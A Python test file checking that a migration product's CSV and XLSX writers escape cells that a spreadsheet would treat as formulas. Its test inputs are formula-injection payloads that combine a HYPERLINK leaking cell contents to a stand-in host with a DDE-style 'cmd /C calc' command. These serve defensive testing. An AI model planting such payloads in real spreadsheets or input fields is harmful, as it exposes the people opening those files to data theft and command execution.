"""Every spreadsheet the product writes, with texts in it that are formulas to a spreadsheet: none comes out as one."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import AsyncIterator, Callable, Iterable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from services.transformer.exports import write_exports
from tests.unit.transformer.profile_account import mapping_for
from tests.unit.transformer.support import Snapshot
from transload.cli.audit import csv_lines
from transload.reference import read_contents, read_tables, write_tables
from transload.v1.migration_service_pb2 import Event
from transload.workbook.write import write_workbook

ROOT = Path(__file__).resolve().parents[3]
STARTS = ("=", "+", "-", "@", "\t", "\r", " =", "\uff1d")
TEXTS = [f"{start}HYPERLINK(\"http://x/?\"&A1)|' /C calc'!A{number}" for number, start in enumerate(STARTS, start=1)]
SAFE = "'"
WRITERS = {
    "services/transformer/exports.py": "reference exports: inventories, series, records that stay behind, fields",
    "transload/cli/audit.py": "audit trail",
    "transload/reference.py": "workbook of the reference exports",
    "transload/workbook/write.py": "mapping workbook",
}
"""The modules that write CSV or XLSX, and what."""


def written(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def exports() -> dict[str, bytes]:
    events = [
        {"id": number * 10 + month, "subject": text, "account-id": 7, "start-date": f"2026-0{month}-05T09:00:00+0000"}
        for number, text in enumerate(TEXTS)
        for month in range(1, 5)
    ]
    orders = [{"id": number, "full-reference": text, "title": text, "custom-fields": {text: text}} for number, text in enumerate(TEXTS)]
    snapshot = Snapshot(
        {"event": events, "work_order": orders, "incident": orders, "incident_type": [{"id": n, "name": t} for n, t in enumerate(TEXTS)]}
    )
    files: dict[str, bytes] = {}
    for name, piece in write_exports(snapshot, mapping_for(snapshot)):
        files[name] = files.get(name, b"") + piece
    return files


def executable(cells: Iterable[str]) -> list[str]:
    """Return the cells that a spreadsheet would calculate."""
    return [cell for cell in cells if cell.lstrip(" ").startswith(tuple(start.strip(" ") for start in STARTS))]


def formulas_in(path: Path) -> tuple[list[str], int]:
    """Return the cells that are formulas, and how many texts begin like one and are marked as texts."""
    cells = [(cell, cell.value) for sheet in load_workbook(path) for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    alike = [cell for cell, text in cells if text.startswith(STARTS) and not text.startswith(" ")]
    assert all(cell.quotePrefix and cell.data_type == "s" for cell in alike), "editing such a cell would make a formula of it"
    return [cell.coordinate for cell, _ in cells if cell.data_type == "f"], len(alike)


@pytest.mark.requirement("L-12", "X-08")
def test_no_csv_of_the_reference_exports_holds_a_formula() -> None:
    files = {name: content for name, content in exports().items() if name.endswith(".csv")}
    assert {"work-orders.csv", "not-moved-incident.csv", "recurring-appointments.csv", "fields.csv"} <= set(files)
    for name, content in files.items():
        assert executable(written(content)) == [], name
    for name in ("work-orders.csv", "not-moved-incident.csv", "recurring-appointments.csv"):
        cells = written(files[name])
        assert all(any(text.strip()[:20] in cell for cell in cells) for text in TEXTS), "and nothing is lost"


@pytest.mark.requirement("L-12", "X-08")
def test_the_workbook_of_the_reference_exports_holds_no_formula(tmp_path: Path) -> None:
    for name, content in exports().items():
        (tmp_path / name).write_bytes(content)
    contents = read_contents(tmp_path)
    contents["rebuild"].append({"title": TEXTS[0], "advice": TEXTS[0], "columns": TEXTS, "rows": [TEXTS]})
    contents["files"][0] |= {"title": TEXTS[0], "about": TEXTS[0]}
    formulas, alike = formulas_in(write_tables(tmp_path, contents, read_tables(tmp_path, contents)))
    assert formulas == []
    assert alike >= len(TEXTS)


@pytest.mark.requirement("L-02", "X-08")
def test_the_mapping_workbook_holds_no_formula(tmp_path: Path) -> None:
    columns = [
        {"name": name, "about": TEXTS[0], "width": 10, "is_editable": is_editable} for name, is_editable in (("Shown", False), ("Value", True))
    ]
    rows = [{"key": text, "cells": [text, text], "edits": {"Value": [text, "b"]}} for text in TEXTS]
    file = tmp_path / "mapping.xlsx"
    write_workbook(
        file, {"title": TEXTS[0], "sheets": [{"name": "Things", "about": TEXTS[0], "columns": columns, "rows": rows}]}, {"Migration": TEXTS[0]}
    )
    formulas, alike = formulas_in(file)
    assert formulas == []
    assert alike >= 3 * (len(TEXTS) - 2)


@pytest.mark.requirement("L-14", "X-08")
async def test_the_sheet_of_the_audit_trail_holds_no_formula() -> None:
    async def events() -> AsyncIterator[Event]:
        for number, text in enumerate(TEXTS, start=1):
            yield Event(sequence=number, actor=text, kind=text, source_key=text, result=text)

    cells = written(b"".join([line async for line in csv_lines(events())]))
    assert executable(cells) == []
    assert all(f"{SAFE}{text}" in cells for text in TEXTS)


def calls(path: Path, names: Callable[[str], bool]) -> bool:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    return any(isinstance(node, ast.Call) and names(ast.unparse(node.func)) for node in ast.walk(tree))


def test_no_other_module_writes_spreadsheets() -> None:
    found = {
        str(path.relative_to(ROOT))
        for folder in ("services", "transload")
        for path in (ROOT / folder).rglob("*.py")
        if calls(path, lambda name: name in {"csv.writer", "csv.DictWriter", "Workbook"})
    }
    assert found == set(WRITERS), "a module that writes spreadsheets must be listed, and have a test above"
